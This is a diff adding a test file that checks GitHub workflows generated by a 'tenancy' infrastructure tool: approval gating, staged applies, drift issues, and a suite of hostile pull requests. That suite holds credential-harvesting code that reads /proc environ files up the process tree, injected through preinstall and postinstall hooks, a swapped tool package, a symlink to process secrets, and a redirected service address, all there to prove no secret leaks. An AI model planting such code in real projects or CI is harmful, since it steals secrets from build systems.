@@ -1,0 +1,328 @@
+/** The workflows that `tenancy init` writes, run step by step: covers src/cli/scaffold/github.ts. */
+import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { join } from "node:path";
+import { approvalsText } from "../../../src/plan/approval-file";
+import { dayAhead } from "../../../src/plan/approval";
+import { built } from "../../support/built-command";
+import { TOKEN } from "../../support/pipeline-host";
+import { CANARY, type Edits, PipedProject } from "../../support/piped-project";
+import { temporaryFolder } from "../../support/temp-folder";
+
+const folder = temporaryFolder();
+let project: PipedProject;
+
+beforeAll(() => built());
+
+afterEach(() => project.close());
+
+const writes = (stack: string) =>
+  project.services[stack]?.requests.filter(
+    ({ method, path }) => method !== "GET" && !/session|auth|login/.test(path),
+  ).length ?? 0;
+
+/** Entries that allow these lines in each stack. */
+const approvals = (...allows: readonly string[]) =>
+  approvalsText(
+    Object.entries(project.services).map(([stack, { baseUrl }]) => ({
+      stack,
+      origin: new URL(baseUrl).origin,
+      owner: "acme-platform",
+      until: dayAhead(new Date(), 7),
+      allows: [...allows],
+    })),
+  );
+
+/** A project whose account acme is live in each stack, with a store and a first snapshot. */
+async function running(...stacks: readonly string[]) {
+  project = await PipedProject.start(folder(), stacks);
+  const { jobs } = await project.pushed();
+  expect(new Set(Object.values(jobs))).toEqual(new Set(["success"]));
+  return project;
+}
+
+const GRANTED = "acme gains realm.view_logs";
+
+test("a broadening change is red until it is approved, and is then applied to staging and after that to production", async () => {
+  const { host } = await running("staging", "production");
+  const change = await project.pullRequest({ "stacks.json": project.stacks(["realm.view_logs"]) });
+  expect(change.review.jobs).toEqual({ review: "success" });
+  expect(host.state.statuses).toMatchObject([
+    { sha: change.sha, context: "tenancy", state: "failure", description: "An approval is missing" },
+  ]);
+  expect(host.state.comments).toHaveLength(1);
+  const [comment] = host.state.comments;
+  expect(comment).toMatchObject({ issue: change.number });
+  expect(comment?.body).toMatch(/^<!-- tenancy:\. -->\n[^]*staging[^]*production/);
+  expect(comment?.body).toContain(GRANTED);
+
+  // Merged without an approval, it changes nothing, and production is not even tried.
+  const before = [writes("staging"), writes("production")];
+  const refused = await project.merge(change.number, change.sha);
+  expect(refused.jobs).toMatchObject({ "apply-staging": "failure", "apply-production": "skipped" });
+  expect([writes("staging"), writes("production")]).toEqual(before);
+  expect(host.state.comments[1]?.body).toMatch(/^Apply of `staging`: failure/);
+
+  const approved = await project.pullRequest({ "tenancy.approvals": approvals(GRANTED) });
+  expect(host.state.statuses[1]).toMatchObject({ sha: approved.sha, state: "success" });
+  const { jobs } = await project.merge(approved.number, approved.sha);
+  expect(jobs).toEqual({ synthesize: "success", "apply-staging": "success", "apply-production": "success" });
+  expect(host.state.comments.slice(2).map(({ issue, body }) => [issue, body.split(" (")[0]])).toEqual([
+    [approved.number, expect.stringContaining("<!-- tenancy:. -->")],
+    [approved.number, "Apply of `staging`: success"],
+    [approved.number, "Apply of `production`: success"],
+  ]);
+  for (const stack of ["staging", "production"]) {
+    expect(writes(stack)).toBeGreaterThan(0);
+    // The store is kept, encrypted.
+    expect(project.store(stack)).not.toContain("acme");
+  }
+  expect(JSON.stringify(host.state)).not.toContain(CANARY);
+});
+
+test("the next review edits the comment that it made, and nobody else's", async () => {
+  const { host } = await running("platform");
+  const change = await project.pullRequest({ "stacks.json": project.stacks([], 20) });
+  expect(host.state.statuses).toMatchObject([{ state: "success", description: "Planned" }]);
+  host.change(({ comments }) => {
+    const forged = {
+      id: 9,
+      issue: change.number,
+      user: { login: "mallory" },
+      body: "<!-- tenancy:. -->\nAll is well.",
+    };
+    comments.unshift(forged);
+  });
+  const before = host.state.comments.map(({ id }) => id);
+  await project.reviewed(change.sha);
+  expect(host.state.comments.map(({ id }) => id)).toEqual(before);
+  expect(host.state.comments[0]?.body).toBe("<!-- tenancy:. -->\nAll is well.");
+});
+
+test("a pull request that is not open any more is left alone", async () => {
+  const { host } = await running("platform");
+  const change = await project.pullRequest({ "stacks.json": project.stacks([], 20) });
+  const before = host.state;
+  host.change(({ pulls }) => Object.assign(pulls[0] ?? {}, { state: "closed" }));
+  expect((await project.reviewed(change.sha)).review.jobs).toEqual({ review: "success" });
+  expect(host.state).toMatchObject({ comments: before.comments, statuses: before.statuses });
+});
+
+test("where the branch of the store takes no push, nothing is sent to the service", async () => {
+  project = await PipedProject.start(folder(), ["platform"]);
+  const hook = join(project.host.repository, "hooks", "pre-receive");
+  writeFileSync(hook, "#!/bin/sh\nexit 1\n", { mode: 0o755 });
+  const { jobs } = await project.pushed();
+  expect(jobs).toEqual({ synthesize: "success", "apply-platform": "failure" });
+  expect(project.services["platform"]?.requests).toEqual([]);
+});
+
+test.each(["TENANCY_STORE_KEY", "TENANCY_PASSWORD"])(
+  "without the secret %s nothing is written",
+  async (name) => {
+    project = await PipedProject.start(folder(), ["platform"]);
+    delete project.host.secrets["platform"]?.[name];
+    expect((await project.pushed()).jobs).toMatchObject({ "apply-platform": "failure" });
+    expect(writes("platform")).toBe(0);
+  },
+);
+
+test("a public repository is refused, unless somebody says that it may be public", async () => {
+  project = await PipedProject.start(folder(), ["platform"]);
+  const { host } = project;
+  host.visibility = "public";
+  const change = await project.pullRequest({ "stacks.json": project.stacks([], 20) });
+  expect([change.own.jobs, change.review.jobs]).toEqual([{ synthesize: "failure" }, { review: "failure" }]);
+  expect((await project.pushed()).jobs).toEqual({ synthesize: "failure", "apply-platform": "skipped" });
+  host.variables["TENANCY_PUBLIC"] = "true";
+  expect((await project.pushed()).jobs).toEqual({ synthesize: "success", "apply-platform": "success" });
+});
+
+test("the drift of a night opens an issue, the next one updates it, and where it is gone the issue is closed", async () => {
+  const { host, services } = await running("platform");
+  expect((await project.nightly()).jobs).toEqual({ synthesize: "success", "drift-platform": "success" });
+  expect(host.state.issues).toEqual([]);
+  const usual = services["platform"]?.records.profile("acme").level ?? 0;
+  const change = (level: number | bigint) => services["platform"]?.records.patchProfile("acme", { level: Number(level) });
+  change(7);
+  await project.nightly();
+  expect(host.state.issues).toMatchObject([{ state: "open", title: "Drift: platform" }]);
+  expect(host.state.issues[0]?.body).toContain("7");
+  change(8);
+  await project.nightly();
+  expect(host.state.issues).toHaveLength(1);
+  expect(host.state.issues[0]?.body).toContain("8");
+  change(usual);
+  await project.nightly();
+  expect(host.state.issues).toMatchObject([{ state: "closed" }]);
+});
+
+describe("a hostile pull request", () => {
+  /** Takes what the process, and every process of the job that it descends from, was given. */
+  const LOOT = (file: string) => `{
+    const { appendFileSync, readFileSync } = require("node:fs");
+    let id = process.pid;
+    while (readFileSync("/proc/" + id + "/environ", "utf8").includes("GITHUB_RUN_ID=")) {
+      appendFileSync(${JSON.stringify(file)}, readFileSync("/proc/" + id + "/environ"));
+      id = Number(/^PPid:\\s*(\\d+)/m.exec(readFileSync("/proc/" + id + "/status", "utf8"))[1]);
+    }
+    appendFileSync(${JSON.stringify(file)}, JSON.stringify(process.env));
+    console.log(JSON.stringify(process.env));
+  }
+  `;
+
+  /** What nobody but the default branch's own jobs may hold. */
+  async function expectNothingGained(edits: (loot: string) => Edits, status: object): Promise<void> {
+    const { host } = await running("platform");
+    const sent = project.services["platform"]?.requests.length;
+    const loot = join(folder(), "loot");
+    const change = await project.pullRequest(edits(loot));
+    expect(host.state.statuses).toMatchObject([{ sha: change.sha, ...status }]);
+    expect(project.services["platform"]?.requests).toHaveLength(sent ?? -1);
+    const found = [
+      existsSync(loot) ? readFileSync(loot, "utf8") : "",
+      change.own.log,
+      change.review.log,
+      JSON.stringify(host.state),
+      ...textsIn(join(folder(), "runs", change.own.id)),
+    ].join("\n");
+    for (const secret of [CANARY, TOKEN]) expect(found).not.toContain(secret);
+  }
+
+  const stackWith = (edit: object) => ({
+    "stacks.json": (text: string) => {
+      const stacks = JSON.parse(text) as { platform: object };
+      return JSON.stringify({ platform: { ...stacks.platform, ...edit } });
+    },
+  });
+
+  test("whose app, tests and install scripts read every environment finds no secret", () =>
+    expectNothingGained(
+      (loot) => ({
+        "main.cjs": (app) => LOOT(loot) + app,
+        "test.cjs": LOOT(loot),
+        "steal.cjs": LOOT(loot),
+        "package.json": (text) =>
+          text.replace('"test":', '"preinstall":"node steal.cjs","postinstall":"node steal.cjs","test":'),
+      }),
+      { state: "success" },
+    ));
+
+  test("that changes the address of the service sends nothing there", async () => {
+    const asked: string[] = [];
+    const thief = createServer((request, response) => {
+      asked.push(request.url ?? "");
+      response.end("{}");
+    });
+    await new Promise<void>((resolve) => thief.listen(0, "127.0.0.1", resolve));
+    const { port } = thief.address() as AddressInfo;
+    const base_url = `http://127.0.0.1:${port}`;
+    try {
+      const edits = stackWith({ provider: { tenancy: [{ base_url, owner: "acme-platform" }] } });
+      await expectNothingGained(() => edits, {
+        state: "failure",
+        description: "There is no plan, or it is refused",
+      });
+      // Not even merged.
+      const { number, head } = project.host.state.pulls[0] as unknown as {
+        number: number;
+        head: { sha: string };
+      };
+      expect((await project.merge(String(number), head.sha)).jobs).toMatchObject({
+        "apply-platform": "failure",
+      });
+      expect(asked).toEqual([]);
+    } finally {
+      thief.close();
+    }
+  });
+
+  test("whose stack reads the environment of the process that plans is refused", () =>
+    expectNothingGained(() => stackWith({ output: { loot: { value: '${file("/proc/self/environ")}' } } }), {
+      state: "failure",
+    }));
+
+  test("that brings its own tool, lock file and .npmrc is reviewed by the default branch's tool", () =>
+    expectNothingGained(
+      (loot) => ({
+        "evil/package.json": JSON.stringify({
+          name: "cdktf-provider-tenancy",
+          version: "9.0.0",
+          bin: { tenancy: "t.js" },
+        }),
+        "evil/t.js": `#!/usr/bin/env node\n${LOOT(loot)}`,
+        ".npmrc": "script-shell=/bin/false\nignore-scripts=false\n",
+        "package.json": (text) => text.replace("file:tool", "file:evil"),
+        "package-lock.json": (text) =>
+          text.replaceAll('"tool"', '"evil"').replaceAll("file:tool", "file:evil"),
+      }),
+      // Its own job leaves no stacks, so there is nothing to plan.
+      { state: "failure" },
+    ));
+
+  test("that lowers what has to be approved in cdktf.json stays red", () =>
+    expectNothingGained(
+      () => ({
+        "cdktf.json": JSON.stringify({
+          language: "typescript",
+          app: "node main.cjs",
+          context: { requireApproval: "never" },
+        }),
+        "stacks.json": project.stacks(["realm.view_logs"]),
+      }),
+      { state: "failure", description: "An approval is missing" },
+    ));
+
+  test("that edits an approval, or the workflows, is judged by those of the default branch", () =>
+    expectNothingGained(
+      () => ({
+        "tenancy.approvals": approvals("acme gains realm.delete_logs").replace("delete_logs", "view_logs"),
+        ".github/workflows/tenancy-review.yml": (text) => text.replaceAll("state=failure", "state=success"),
+        "stacks.json": project.stacks(["realm.view_logs"]),
+      }),
+      { state: "failure" },
+    ));
+
+  test("that uploads a link in place of a file is refused", () =>
+    expectNothingGained(
+      () => ({
+        "main.cjs": (app) => `${app}\nrequire("node:fs").symlinkSync("/proc/self/environ", out + "/x");`,
+      }),
+      { state: "failure" },
+    ));
+
+  test("that uploads a snapshot of its own is planned from the default branch's", async () => {
+    const { host } = await running("platform");
+    const change = await project.pullRequest({ "stacks.json": project.stacks([], 20) });
+    mkdirSync(host.artifact(change.own.id, "snapshot-platform"), { recursive: true });
+    writeFileSync(join(host.artifact(change.own.id, "snapshot-platform"), "platform.snapshot"), "forged");
+    host.change(({ runs }) => {
+      const facts = { id: change.own.id, workflow: "tenancy-apply", created_at: "2030-01-01T00:00:00Z" };
+      const fork = { full_name: "mallory/platform" };
+      runs.push({ ...facts, event: "push", head_branch: "main", head_repository: fork });
+      runs.push({
+        ...facts,
+        event: "pull_request",
+        head_branch: "main",
+        head_repository: { full_name: "acme/platform" },
+      });
+      runs.push({
+        ...facts,
+        event: "push",
+        head_branch: "evil",
+        head_repository: { full_name: "acme/platform" },
+      });
+    });
+    await project.reviewed(change.sha);
+    expect(host.state.statuses.at(-1)).toMatchObject({ state: "success" });
+  });
+});
+
+/** The text of each file in a folder. */
+function textsIn(place: string): string[] {
+  if (!existsSync(place)) return [];
+  return readdirSync(place, { recursive: true, withFileTypes: true })
+    .filter((entry) => entry.isFile())
+    .map((entry) => readFileSync(join(entry.parentPath, entry.name), "utf8"));
+}
